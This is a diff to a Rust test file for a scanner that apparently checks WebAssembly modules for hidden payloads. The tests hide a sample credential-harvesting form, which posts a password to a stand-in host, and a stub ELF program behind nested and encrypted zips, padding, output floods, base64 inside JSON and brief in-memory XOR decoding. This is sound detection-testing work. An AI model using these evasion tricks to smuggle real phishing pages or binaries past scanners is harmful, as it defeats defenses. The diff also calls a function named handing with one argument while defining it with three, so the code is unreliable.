@@ -1,7 +1,7 @@
 //! Things that are put where there is no room to look: behind much else, among much else, after much else. It
 //! is found, or it is said that not all was looked at, and then it is not CLEAN.
 
-use super::{Class, analysed, at_least, carriers::base64, class};
+use super::{Class, analysed, at_least, carriers::base64, class, files, not_accused};
 
 const PAGE: &str =
     "<html><body><form action='https://c.example.invalid/in'>Password <input name='p'></form></body></html>";
@@ -101,6 +101,145 @@ fn more_layers_than_are_taken_off_are_told() {
     let far = PROSE.repeat(3000) + PAGE;
     let modules = [("far in what is packed", handing(&packed(far.as_bytes())))];
     at_least(Class::PotentiallyUnwanted, &modules);
+}
+
+/// A program that writes a file.
+fn writing(bytes: &[u8]) -> String {
+    let pages = bytes.len() / 65536 + 2;
+    files(&format!(
+        r#"(data (i32.const 4096) "{}")
+           (func (export "_start") (drop (memory.grow (i32.const {pages})))
+             (call $write (call $temporary) (i32.const 4096) (i32.const {})))"#,
+        plain(bytes),
+        bytes.len()
+    ))
+    .replace("(memory (export \"memory\") 2)", &format!("(memory (export \"memory\") {pages})"))
+}
+
+/// A zip.
+fn zipped(members: &[&[u8]], is_secret: bool) -> Vec<u8> {
+    use std::io::{Cursor, Write as _};
+    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    for (place, member) in members.iter().enumerate() {
+        let sealed = options.with_aes_encryption(zip::AesMode::Aes256, "secret");
+        out.start_file(place.to_string(), if is_secret { sealed } else { options }).unwrap();
+        out.write_all(member).unwrap();
+    }
+    out.finish().unwrap().into_inner()
+}
+
+const PROGRAM: &[u8] = b"\x7fELF\x02\x01\x01\0 and what it does then, which is nothing of use to anybody.";
+
+#[test]
+fn archives_hide_nothing_in_a_file() {
+    let inner = zipped(&[PROGRAM], false);
+    let deep = (0..5).fold(inner.clone(), |bytes, _| zipped(&[b"words", &bytes], false));
+    at_least(Class::PotentiallyUnwanted, &[("archives within archives", writing(&deep))]);
+    let much = vec![b'a'; 22 << 20];
+    let behind = zipped(&[&zipped(&[&much], false), &zipped(&[&much, &much], false), &inner], false);
+    let deeper = (0..12).fold(inner, |bytes, _| zipped(&[&bytes], false));
+    let modules = [
+        ("behind more than is unpacked", writing(&behind)),
+        ("deeper than is looked", writing(&deeper)),
+        ("behind a key", writing(&zipped(&[PROGRAM], true))),
+        ("in a format that nobody here can undo", writing(b"BZh91AY&SY and so on, until it ends somewhere")),
+    ];
+    at_least(Class::Undecided, &modules);
+    not_accused(&modules);
+    for text in [zipped(&[PROSE.as_bytes()], false), zipped(&[&zipped(&[PROSE.as_bytes()], false)], false)] {
+        let verdict = analysed(&writing(&text)).verdict;
+        assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
+    }
+}
+
+/// Hands over bytes, after so many calls that hand over others.
+fn handing(bytes: &[u8], times: u32, others: &[u8]) -> String {
+    format!(
+        r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 8)
+          (data (i32.const 1024) "{}") (data (i32.const 200000) "{}")
+          (func (export "run") (local $i i32)
+            (loop $next
+              (i32.store8 (i32.const 200060) (local.get $i))
+              (call $show (i32.const 200000) (i32.const {}))
+              (local.set $i (i32.add (local.get $i) (i32.const 1)))
+              (br_if $next (i32.lt_u (local.get $i) (i32.const {times}))))
+            (call $show (i32.const 1024) (i32.const {}))))"#,
+        plain(bytes),
+        plain(others),
+        others.len(),
+        bytes.len()
+    )
+}
+
+#[test]
+fn archives_and_floods_hide_nothing_that_is_handed_over() {
+    let text = PROSE.repeat(100);
+    let archive = zipped(&[text.as_bytes(), &zipped(&[PROGRAM], false)], false);
+    let page = zipped(&[text.as_bytes(), PAGE.as_bytes()], false);
+    let flood = PROSE.repeat(900);
+    at_least(
+        Class::PotentiallyUnwanted,
+        &[
+            ("a program in an archive", handing(&archive, 1, b"words")),
+            ("a page in an archive", handing(&page, 1, b"words")),
+            ("a program after a flood", handing(PROGRAM, 60, flood.as_bytes())),
+        ],
+    );
+    let secret = zipped(&[PROGRAM], true);
+    at_least(Class::Undecided, &[("an archive behind a key", handing(&secret, 1, b"words"))]);
+    let verdict = analysed(&handing(&zipped(&[text.as_bytes()], false), 1, b"words")).verdict;
+    assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
+}
+
+/// A page in an encoding, within a text that is in none.
+#[test]
+fn prose_around_an_encoding_hides_nothing() {
+    let hidden = base64(PAGE.as_bytes());
+    let far = format!("{} {hidden} {PROSE}", PROSE.repeat(2000));
+    let json = |text: &str| format!("{{\"title\": \"{PROSE}\", \"body\": \"{text}\", \"more\": 3}}");
+    let escaped = PAGE.replace('<', "\\u003c");
+    at_least(
+        Class::PotentiallyUnwanted,
+        &[
+            ("in JSON", handing(json(&hidden).as_bytes(), 1, b"words")),
+            ("escaped in JSON", handing(json(&escaped).as_bytes(), 1, b"words")),
+            ("behind a word", handing(format!("{PROSE} data{hidden}").as_bytes(), 1, b"words")),
+            ("far behind prose", handing(far.as_bytes(), 1, b"words")),
+        ],
+    );
+    let prose = base64(
+        b"Rain fell on nine of ten days in the week before, so nobody had to carry water to the pots.",
+    );
+    for text in [json(&prose), far.replace(&hidden, &prose)] {
+        let verdict = analysed(&handing(text.as_bytes(), 1, b"words")).verdict;
+        assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
+    }
+}
+
+/// A page that lies in memory for as long as a call takes, whose host knows where.
+#[test]
+fn what_is_erased_before_the_end_was_there() {
+    let flashing = |text: &str| {
+        let hidden: Vec<u8> = text.bytes().map(|byte| byte ^ 0x5a).collect();
+        format!(
+            r#"(module (import "page" "ready" (func $ready (param i32))) (memory (export "memory") 1)
+              (data (i32.const 1024) "{}")
+              (func $flip (local $i i32)
+                (loop $letter
+                  (i32.store8 offset=4096 (local.get $i)
+                    (i32.xor (i32.load8_u offset=4096 (local.get $i)) (i32.load8_u offset=1024 (local.get $i))))
+                  (i32.store8 offset=4096 (local.get $i)
+                    (i32.xor (i32.load8_u offset=4096 (local.get $i)) (i32.const 90)))
+                  (local.set $i (i32.add (local.get $i) (i32.const 1)))
+                  (br_if $letter (i32.lt_u (local.get $i) (i32.const {})))))
+              (func (export "run") (call $flip) (call $ready (i32.const 7)) (call $flip)))"#,
+            plain(&hidden),
+            text.len()
+        )
+    };
+    at_least(Class::PotentiallyUnwanted, &[("a page", flashing(PAGE))]);
+    assert_eq!(class(&flashing(PROSE)), Class::Clean);
 }
 
 /// zlib.
